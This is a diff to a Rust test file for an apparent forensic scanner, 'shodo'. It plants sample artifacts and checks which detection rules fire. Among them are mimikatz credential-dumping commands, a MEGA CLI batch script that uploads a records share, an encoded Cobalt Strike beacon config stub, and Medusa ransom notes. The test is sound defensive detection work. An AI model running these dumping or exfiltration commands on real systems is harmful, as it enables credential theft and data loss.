@@ -370,10 +370,93 @@ fn hack_tools_exfiltration_configs_and_web_shells_are_found() {
     write(d, "tools/m.txt", b"privilege::debug\r\nsekurlsa::logonpasswords\r\nexit\r\n");
     write(d, "var/www/html/index.php", b"<?php echo htmlspecialchars($_GET['q']); ?>");
     write(d, "Users/a/AppData/Roaming/rclone/notes.ini", b"[section]\nname = value\n");
+    // A beacon's configuration block as version 4 stores it (XOR 0x2e), inside filler bytes.
+    let mut beacon = vec![0x90u8; 4096];
+    let config: Vec<u8> = [0u8, 1, 0, 1, 0, 2, 0, 1, 0, 2, 0, 1, 0, 2, 0x01, 0xBB].iter().map(|b| b ^ 0x2e).collect();
+    beacon[1000..1016].copy_from_slice(&config);
+    write(d, "ProgramData/svc.bin", &beacon);
+    let mut almost = beacon.clone();
+    almost[1002] ^= 0xFF;
+    write(d, "ProgramData/other.bin", &almost);
+    write(
+        d,
+        "tools/exfil.bat",
+        b"mega-login leak@example.org pw
+mega-put C:\\share\\records /backup
+rem mega.nz
+",
+    );
+    write(d, "tools/scan.xml", b"<!-- SoftPerfect Network Scanner -->\n<hosts/>\n");
     let (_, json, _) = scan_json(&[], &[d]);
     assert_eq!(rules_hit(&json, "rclone.conf"), vec!["shodo_exfiltration_rclone_config".to_string()]);
     assert_eq!(rules_hit(&json, "up.php"), vec!["shodo_webshell_php".to_string()]);
     assert_eq!(rules_hit(&json, "cmd.jsp"), vec!["shodo_webshell_aspx_jsp".to_string()]);
     assert_eq!(rules_hit(&json, "m.txt"), vec!["shodo_credential_dumper".to_string()]);
     assert!(rules_hit(&json, "index.php").is_empty() && rules_hit(&json, "notes.ini").is_empty());
+    assert_eq!(rules_hit(&json, "svc.bin"), vec!["shodo_beacon_cobalt_strike".to_string()]);
+    assert!(rules_hit(&json, "other.bin").is_empty(), "one byte off the configuration layout is no beacon");
+    assert_eq!(rules_hit(&json, "exfil.bat"), vec!["shodo_exfiltration_mega_cli".to_string()]);
+    assert_eq!(rules_hit(&json, "scan.xml"), vec!["shodo_network_scanner".to_string()]);
+}
+
+fn set_mtime(path: &Path, rfc3339: &str) {
+    let t = chrono::DateTime::parse_from_rfc3339(rfc3339).unwrap();
+    let f = fs::File::options().write(true).open(path).unwrap();
+    f.set_modified(std::time::SystemTime::from(t)).unwrap();
+}
+
+#[test]
+fn notes_found_by_name_and_the_first_suspicious_executable_are_in_the_findings() {
+    let tmp = tempfile::tempdir().unwrap();
+    let src = tmp.path().join("src");
+    write(&src, "Windows/System32/config/SYSTEM", b"regf");
+    // A note only its name gives away (the content is a bare contact line no rule matches).
+    write(
+        &src,
+        "Users/yamada/Desktop/HOW_TO_RESTORE_FILES.hta",
+        b"<html><body>mail: unlock@mailbox.example</body></html>",
+    );
+    write(
+        &src,
+        "Users/yamada/Desktop/!!!READ_ME_MEDUSA!!!.txt",
+        b"Your files have been encrypted. To decrypt them pay in bitcoin. Do not rename files.\n",
+    );
+    write(&src, "Users/yamada/Desktop/shopping.txt", b"milk, eggs\n");
+    let temp = "Users/yamada/AppData/Local/Temp";
+    write(&src, &format!("{temp}/a.exe"), &minimal_pe(b".text\0\0\0", &[0xC3; 512], 1_700_000_000));
+    write(&src, &format!("{temp}/b.exe"), &minimal_pe(b".text\0\0\0", &[0x90; 512], 1_700_000_100));
+    set_mtime(&src.join(format!("{temp}/a.exe")), "2024-05-01T02:00:00Z");
+    set_mtime(&src.join(format!("{temp}/b.exe")), "2024-05-03T02:00:00Z");
+    let case = tmp.path().join("case");
+    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
+    shodo().args(["collect", "--endpoint", "pc-22", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
+    let out = shodo().args(["scan", "--json", "--endpoint", "pc-22", "--case"]).arg(&case).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
+    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let notes = result["notes"].as_array().unwrap();
+    let by_name = notes.iter().find(|n| n["path"] == "Users/yamada/Desktop/HOW_TO_RESTORE_FILES.hta").unwrap();
+    assert!(by_name["rule"].is_null(), "found by its name alone: {by_name}");
+    assert_eq!(by_name["iocs"]["email"][0], "unlock@mailbox.example");
+    assert!(!notes.iter().any(|n| n["path"] == "Users/yamada/Desktop/shopping.txt"));
+    assert!(
+        result["families"].as_array().unwrap().iter().any(|f| f["family"] == "Medusa"),
+        "the note's name names its family: {result}"
+    );
+    let first = &result["first_suspicious_executable"];
+    assert_eq!(first["path"], format!("{temp}/a.exe"), "{result}");
+    assert_eq!(first["suspicious_executables"], 2);
+    assert_eq!(first["why"][0]["location"], "user_appdata");
+    if first["time_source"] == "modified" {
+        assert!(first["time"].as_str().unwrap().starts_with("2024-05-01T02:00:00"), "{first}");
+    }
+    let findings = fs::read_to_string(case.join("endpoints/pc-22/findings.jsonl")).unwrap();
+    let records: Vec<Value> = findings.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let medusa = records
+        .iter()
+        .find(|r| r["kind"] == "ransom_note_name" && r["path"] == "Users/yamada/Desktop/!!!READ_ME_MEDUSA!!!.txt")
+        .unwrap();
+    assert_eq!(medusa["content_match"], true);
+    assert!(records.iter().any(|r| r["kind"] == "executable" && r["location"] == "user_appdata"));
+    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
+    assert!(custody.lines().any(|l| l.contains("first_suspicious_executable") && l.contains("a.exe")));
 }
